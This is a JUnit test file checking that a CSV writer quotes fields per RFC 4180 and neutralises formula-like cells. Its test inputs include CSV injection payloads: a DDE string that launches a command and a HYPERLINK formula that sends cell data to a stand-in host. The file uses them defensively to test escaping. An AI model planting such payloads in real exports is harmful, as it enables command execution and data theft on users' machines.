package org.bureauportal.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A line is read back as it was, by RFC 4180, and calculates nothing. */
class CsvLineTests {

    @Test
    void hasAnyText() {
        assertThat(CsvLine.of(List.of("a, b", "he said \"no\"", "two\r\nlines", "", "要闻")))
                .isEqualTo("\"a, b\",\"he said \"\"no\"\"\",\"two\r\nlines\",\"\",\"要闻\"\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n1",
                "\t1",
                " =1",
                "\u00a0=1",
                "\u200b=1",
                "\ufeff=1",
                "＝1",
                "＋1",
                "－1",
                "＠1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"https://evil.example/?\"&A1)"
            })
    void calculatesNothing(String formula) {
        assertThat(CsvLine.of(List.of(formula))).startsWith("\"'");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a=1", "1-2", "Li (li)", "2026-11-18", "'", "🙂", " a"})
    void leavesWhatIsNoFormulaAsItIs(String text) {
        assertThat(CsvLine.of(List.of(text))).isEqualTo('"' + text + "\"\r\n");
    }
}
